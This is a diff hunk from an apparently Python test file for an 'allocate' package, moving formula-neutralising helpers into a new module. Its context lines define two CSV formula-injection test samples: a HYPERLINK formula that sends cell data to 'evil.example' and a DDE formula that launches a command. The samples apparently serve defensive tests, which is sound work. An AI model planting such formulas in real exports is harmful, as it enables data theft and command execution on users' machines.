@@ -21,11 +21,12 @@ from hypothesis import strategies as st
 from allocate import Case, Household, Lot, Need, Plan, Policy, Service, Tier, Urgency, Volunteer, read_case, solve
 from allocate.cli import cli
 from allocate.explain import explain
-from allocate.files import FORMULA_START, neutralise, restore, write_csv
+from allocate.files import write_csv
 from allocate.io import read_plan, write_case, write_template
 from allocate.outputs import write_outputs
 from allocate.report import build_summary
 from allocate.schema import Clause
+from allocate.text import FORMULA_START, neutralise, restore
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 CALC = "+cmd|' /C calc'!A0"
